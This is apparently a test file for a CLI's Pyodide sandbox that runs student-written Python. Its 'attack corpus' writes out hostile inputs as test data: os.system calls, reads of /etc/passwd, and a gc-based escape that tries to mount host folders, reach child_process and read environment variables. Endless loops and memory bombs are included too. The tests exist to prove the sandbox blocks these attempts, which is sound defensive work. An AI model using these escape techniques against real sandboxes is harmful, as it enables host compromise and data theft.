// Python in the CLI's sandbox (issue 29): Pyodide in the sandbox's child process, under the same
// harness as TypeScript. The attack corpus of a hostile student writing Python, each through the
// real child (its permission model, its limits), plus the reader's own line numbers in tracebacks
// and a heuristic graded through the real command. Each child starts Pyodide from the snapshot the
// CLI keeps (src/cli/sandbox.ts), about a second idle; the first test makes it.
import { existsSync, rmSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { applyInSandbox, mapInSandbox, pythonSnapshot } from '../../src/cli/sandbox.ts'
import { languageOf, snakeCase } from '../../src/sandbox/languages.ts'
import { runCli, scratch } from './helpers.ts'

const { dir, file } = scratch('python-')
const SLOW = 120_000
const INPUTS = [[1], [2], [3]]

/** `source` (Python, a function f) on [[1], [2], [3]] in the child: its values, or the error it threw. */
function run(source: string, timeLimitS = 10): { values?: unknown[]; error?: string; name?: string } {
  try {
    return {
      values: applyInSandbox(file('reader.py', source), source, INPUTS, timeLimitS, (k) => `input ${k + 1}`),
    }
  } catch (error) {
    return { error: (error as Error).message, name: (error as Error).name }
  }
}

beforeAll(() => {
  expect(pythonSnapshot()).not.toBe('') // made once, kept in the user's cache
}, SLOW)

describe('languages', () => {
  it('the extension picks the language; names go to snake_case', () => {
    expect(languageOf('a/b/h.py')).toBe('python')
    expect(languageOf('H.PY')).toBe('python')
    expect(languageOf('h.ts')).toBe('typescript')
    expect(languageOf('h.js')).toBe('typescript')
    expect(languageOf('h.txt')).toBeNull()
    expect(snakeCase('isSolvable')).toBe('is_solvable')
    expect(snakeCase('lowerBound')).toBe('lower_bound')
    expect(snakeCase('turnWheel')).toBe('turn_wheel')
  })
})

describe('Python runs the reader’s function, the loop inside Python', () => {
  it(
    'values come back as data: ints, floats, None, tuples as lists, NaN and inf marked',
    () => {
      const r = run(
        'import math\ndef f(x):\n    return [x, x / 2, None, (x, "a"), {"k": True}, math.inf, float("nan")]\n',
      )
      expect(r.error).toBeUndefined()
      expect(r.values?.[1]).toEqual([2, 1, null, [2, 'a'], { k: true }, Number.POSITIVE_INFINITY, Number.NaN])
    },
    SLOW,
  )

  it(
    'a traceback names the reader’s own lines, innermost first, and the input',
    () => {
      const r = run('def helper(x):\n    return 10 // (x - 2)\n\n\ndef f(x):\n    return helper(x)\n')
      expect(r.error).toMatch(
        /reader\.py:2: ZeroDivisionError: division by zero \(in helper line 2, called from f line 6\) \(for input 2\)\./,
      )
    },
    SLOW,
  )

  it(
    'a syntax error names its line; a missing function says what to write',
    () => {
      expect(run('def f(x):\n    return x +\n').error).toMatch(
        /reader\.py:2: does not load|reader\.py:2: SyntaxError/,
      )
      expect(run('def g(x):\n    return x\n').error).toMatch(/no function f: write def f\(…\):/)
    },
    SLOW,
  )

  it(
    'a set, a function or a dict with tuple keys is a bad value, named',
    () => {
      expect(run('def f(x):\n    return {x}\n').error).toMatch(/returned a value of type set for input 1/)
      expect(run('def f(x):\n    return f\n').error).toMatch(/returned a value of type function/)
      expect(run('def f(x):\n    return {(1, 2): x}\n').error).toMatch(/a key that is not a string/)
    },
    SLOW,
  )
})

describe('the attack corpus, Python', () => {
  const way = (r: { error?: string }) => r.error ?? ''

  it(
    'import js, pyodide.ffi, pyodide_js: refused; js would be an empty object anyway',
    () => {
      expect(way(run('import js\ndef f(x):\n    return str(js.fetch)\n'))).toMatch(/import of js is refused/)
      expect(way(run('from pyodide.ffi import create_proxy\ndef f(x):\n    return 1\n'))).toMatch(
        /import of pyodide is refused/,
      )
      expect(way(run('import pyodide_js\ndef f(x):\n    return 1\n'))).toMatch(
        /import of pyodide_js is refused/,
      )
    },
    SLOW,
  )

  it(
    'os.system and posix.system run nothing; open() reads nothing',
    () => {
      const marker = join(dir, 'ran')
      expect(way(run(`import os\ndef f(x):\n    return os.system('touch ${marker}')\n`))).toMatch(
        /AttributeError.*system/,
      )
      const r = run(`import posix\ndef f(x):\n    return posix.system('touch ${marker}')\n`)
      expect(existsSync(marker)).toBe(false)
      expect(r.values ?? r.error).toBeDefined()
      expect(way(run("def f(x):\n    return open('/etc/passwd').read()\n"))).toMatch(/open\(\) is refused/)
      const io = run("import io\ndef f(x):\n    return io.FileIO('/etc/passwd').read().decode()\n")
      expect(JSON.stringify(io)).not.toMatch(/root:/)
    },
    SLOW,
  )

  it(
    'the JavaScript objects found through gc lead nowhere: no host files, no network, no process',
    async () => {
      const hits: string[] = []
      const server = createServer((s) => {
        hits.push('connection')
        s.destroy()
      })
      await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok))
      const port = (server.address() as { port: number }).port
      const marker = join(dir, 'escaped')
      // Pyodide's own API object, found through gc (Python cannot hide one object from another):
      // mount the host's /etc, load a package from the local server, make code from a string,
      // reach Emscripten's module and whatever `require` it kept.
      const attack = `import gc
def find():
    for o in gc.get_objects():
        if isinstance(o, dict):
            for v in list(o.values()):
                if type(v).__name__ == 'JsProxy':
                    try:
                        if 'loadPackage' in list(v.object_keys()):
                            return v
                    except BaseException:
                        pass
def f(x):
    if x != 1:
        return []
    api = find()
    out = ['found' if api is not None else 'not found']
    def t(fn):
        try:
            out.append(str(fn())[:300])
        except BaseException as e:
            out.append(type(e).__name__ + ': ' + str(e)[:300])
    t(lambda: (api.mountNodeFS('/host', '/etc'), __import__('io').FileIO('/host/passwd').read()[:30]))
    t(lambda: api.loadPackage('http://127.0.0.1:${port}/x-1.0-py3-none-any.whl'))
    t(lambda: api.loadPackage.constructor('return 1')())
    t(lambda: api._module.require('node:child_process').execSync('touch ${marker}'))
    t(lambda: api._api.config.jsglobals.process.env)
    return out
`
      const r = run(attack)
      await new Promise((ok) => setTimeout(ok, 300))
      server.close()
      expect(hits).toEqual([])
      expect(existsSync(marker)).toBe(false)
      expect(JSON.stringify(r)).not.toMatch(/root:|PATH|HOME=/)
      // The attack did reach Pyodide's API (so the test can fail); how each try ended.
      const said = (r.values?.[0] ?? []) as string[]
      expect(said[0]).toBe('found')
      expect(said[1]).toMatch(/hostPath '\/etc' does not exist/) // the permission model: no such folder
      expect(said[3]).toMatch(/Code generation from strings disallowed/)
    },
    SLOW,
  )

  it(
    'an endless loop stops at the time limit (exit 3), even one that catches the interrupt',
    () => {
      const t0 = Date.now()
      const r = run('def f(x):\n    while True:\n        pass\n', 2)
      expect(r.name).toBe('BudgetError')
      expect(r.error).toMatch(/stopped after 2 s/)
      const r2 = run(
        'def f(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException:\n            pass\n',
        2,
      )
      expect(r2.name).toBe('BudgetError')
      expect(Date.now() - t0).toBeLessThan(60_000)
    },
    SLOW,
  )

  it(
    'a memory bomb is that file’s verdict, not a crash of the CLI',
    () => {
      expect(way(run('def f(x):\n    return len([0] * (10 ** 9))\n'))).toMatch(/memory/i)
      expect(
        way(run('def f(x):\n    b = []\n    while True:\n        b.append(bytearray(10 ** 7))\n')),
      ).toMatch(/memory/i)
    },
    SLOW,
  )

  it(
    'a huge return value is a bad value, named short',
    () => {
      expect(way(run("def f(x):\n    return '3' * 10 ** 7\n"))).toMatch(
        /returned a string of 10,000,000 characters \("3333/,
      )
      expect(way(run('def f(x):\n    return [0] * 3 * 10 ** 7\n'))).toMatch(/a list of 30,000,000 items/)
    },
    SLOW,
  )

  it(
    'print() writes nothing the CLI reads',
    () => {
      const r = run('def f(x):\n    print(\'{"ms":1,"count":9}\\n{"type":"values"}\')\n    return x\n')
      expect(r.values).toEqual([1, 2, 3])
    },
    SLOW,
  )
})

describe('graded through the command like a .ts file', () => {
  it(
    'sliding check-heuristic: Manhattan in Python on 181,440 positions; an overestimate is caught',
    () => {
      const right = file(
        'manhattan.py',
        'def h(tiles, goal, width):\n    s = 0\n    for i, t in enumerate(tiles):\n        if t:\n            j = goal.index(t)\n            s += abs(i % width - j % width) + abs(i // width - j // width)\n    return s\n',
      )
      const r = runCli(['sliding', 'check-heuristic', right])
      expect(r.err).toBe('')
      expect(r.out).toMatch(/181,440 positions, 0 overestimates, 0 inconsistent moves/)
      expect(r.code).toBe(0)
      const wrong = file(
        'double.py',
        'def h(tiles, goal, width):\n    return 2 * sum(1 for t in tiles if t)\n',
      )
      const w = runCli(['sliding', 'check-heuristic', wrong])
      expect(w.out + w.err).toMatch(/not admissible: overestimates 7,279 positions/)
      expect(w.code).toBe(1)
    },
    SLOW,
  )

  it(
    'a heuristic that returns a string is named with its board',
    () => {
      const job = {
        inputs: new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8, 0]),
        stride: 9,
        goal: [1, 2, 3, 4, 5, 6, 7, 8, 0],
        width: 3,
      }
      const src = "def h(tiles, goal, width):\n    return 'zero'\n"
      expect(() => mapInSandbox(file('s.py', src), src, job, 10)).toThrow(
        /h returned "zero" for 1 2 3\/4 5 6\/7 8 0/,
      )
    },
    SLOW,
  )
})

afterAll(() => rmSync(dir, { recursive: true, force: true }))
